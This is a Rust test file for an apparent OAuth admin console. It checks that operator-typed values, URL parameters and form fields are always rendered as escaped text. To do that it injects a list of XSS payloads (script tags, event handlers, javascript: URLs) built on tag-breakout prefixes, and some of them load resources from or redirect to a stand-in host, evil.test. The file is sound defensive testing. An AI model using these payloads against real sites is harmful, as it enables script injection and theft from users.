//! Whatever people type is text: it never becomes markup, script or a link of its own.

use std::collections::BTreeSet;

use jeton::{
    admin::{
        apis::DefineApi,
        clients::EditClient,
        operators::{AddOperator, EditOperator},
        secrets::EditNote,
    },
    crypto::signer::Algorithm,
    domain::{
        api::{ApiScope, Offer, Sensitivity},
        permission::Role,
        time::Lifetime,
    },
};

use crate::{harness::server::TestServer, world::World};

/// What somebody could type to take over a page, by the place that it would break out of.
const BREAKS: [&str; 5] = ["", "\">", "'>", "</title></textarea></script>", "]]>--><p>"];

/// What would run there.
const RUNS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.test/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.test><button>x",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
];

fn payloads() -> impl Iterator<Item = String> {
    BREAKS
        .iter()
        .flat_map(|breaks| RUNS.iter().map(move |runs| format!("{breaks}{runs}")))
}

/// AD-12, ST-06
#[tokio::test]
async fn what_people_type_never_becomes_markup() {
    let server = TestServer::start().await;
    let mut browser = server.signed_in(Role::Owner).await;
    let mut paths: Vec<String> = [
        "",
        "/clients",
        "/clients?page=2",
        "/clients/new",
        "/apis",
        "/keys",
        "/audit",
        "/operators",
        "/settings",
        "/me",
        "/tools/token",
    ]
    .map(str::to_owned)
    .to_vec();
    for (n, payload) in payloads().enumerate() {
        let id = format!("client-{n}");
        let identifier = format!("urn:api:{n}");
        fill(&server, (&id, &identifier), &payload).await;
        for tab in ["", "/credentials", "/access", "/activity", "/settings"] {
            paths.push(format!("/clients/{id}{tab}"));
        }
        paths.push(format!("/apis/urn%3Aapi%3A{n}"));
        let typed: String = url_encoded(&payload);
        paths.push(format!("/clients?q={typed}"));
    }

    for path in paths {
        let html = browser.open(&path).await.html();
        for payload in payloads() {
            assert!(!html.contains(&payload), "{path} has {payload} as it is");
        }
        assert!(!html.contains("href=\"javascript:"), "{path}");
    }
}

/// Pages that repeat what their address asks for.
const ASKED: [&str; 9] = [
    "/clients?q=",
    "/clients?status=",
    "/clients/new?like=",
    "/clients/new/access?find=",
    "/clients/mailer/try?api=urn:shop&chosen=yes&scope=",
    "/apis/urn%3Ashop/clients?q=",
    "/audit?who=",
    "/audit?from=",
    "/sign-in?return=",
];

#[tokio::test]
async fn what_an_address_asks_for_comes_back_as_text() {
    let server = TestServer::start().await;
    server.api("urn:shop", "read").await;
    let mailer = server.client("mailer").await;
    mailer.granted("urn:shop", "read").await;
    let mut browser = server.signed_in(Role::Owner).await;
    let form = [("name", "Mover")];
    browser.post("/clients/new", &form).await.assert_status(200);

    for path in ASKED {
        for payload in payloads() {
            let path = format!("{path}{}", url_encoded(&payload));
            let html = browser.open(&path).await.html();
            assert!(!html.contains(&payload), "{path} has {payload} as it is");
        }
    }
}

/// AD-12
#[tokio::test]
async fn what_a_form_sends_comes_back_as_text() {
    let world = World::new().await;
    let everything: String = payloads().collect();
    let mut sent = BTreeSet::new();

    for scene in world.scenes.iter().filter(|scene| scene.form.is_none()) {
        let page = world.visit(scene).await;
        let mut browser = world.places[scene.place].server.browser();
        browser.cookies.clone_from(&scene.cookies);
        for form in page.forms() {
            let all = form.fields.iter();
            let filled: Vec<_> = all
                .map(|(name, value, is_text)| {
                    let value = if *is_text { &everything } else { value };
                    (name.as_str(), value.as_str())
                })
                .collect();
            let is_text = form.fields.iter().any(|(_, _, is_text)| *is_text);
            if !is_text || !sent.insert(form.action.clone()) {
                continue;
            }
            let html = browser.post(&form.action, &filled).await.html();
            for payload in payloads() {
                let action = &form.action;
                assert!(!html.contains(&payload), "{action} gives {payload}");
            }
        }
    }

    assert!(sent.len() > 30, "{sent:?}");
}

/// Puts `payload` wherever an operator can type.
async fn fill(server: &TestServer, (id, identifier): (&str, &str), payload: &str) {
    let scope = ApiScope {
        description: payload.parse().unwrap(),
        sensitivity: Sensitivity::Sensitive,
        offer: Offer::Open,
    };
    server
        .run(DefineApi {
            identifier: identifier.parse().unwrap(),
            name: payload.parse().unwrap(),
            description: payload.parse().unwrap(),
            algorithm: Algorithm::Es256,
            token_lifetime: Lifetime::DEFAULT,
            scopes: [("read".parse().unwrap(), scope)].into(),
            rules: jeton::domain::api::ApiRules::default(),
        })
        .await;
    let client = server.client(id).await.granted(identifier, "read").await;
    let mut edit = EditClient::of(client.client_id());
    edit.name = Some(payload.parse().unwrap());
    edit.description = Some(payload.parse().unwrap());
    edit.owner = Some(payload.parse().unwrap());
    server.run(edit).await;
    let secret = {
        let registry = server.app.registry();
        let found = registry.find_client(&client.client_id()).unwrap();
        found.secrets[0].id.clone()
    };
    server
        .run(EditNote {
            client: client.client_id(),
            secret,
            note: payload.parse().unwrap(),
        })
        .await;
    let request = server.request("POST", "/oauth2/token");
    let request = request.header("authorization", &client.basic());
    let request = request.header("user-agent", payload);
    let reply = request.form("grant_type=client_credentials").send().await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let operator = server
        .run(AddOperator {
            email: format!("{id}@example.com").parse().unwrap(),
            name: "x".parse().unwrap(),
            role: Role::Viewer,
            password: None,
        })
        .await;
    let mut edit = EditOperator::of(operator);
    edit.name = Some(payload.parse().unwrap());
    server.run(edit).await;
}

fn url_encoded(text: &str) -> String {
    crate::harness::caller::encode(text)
}
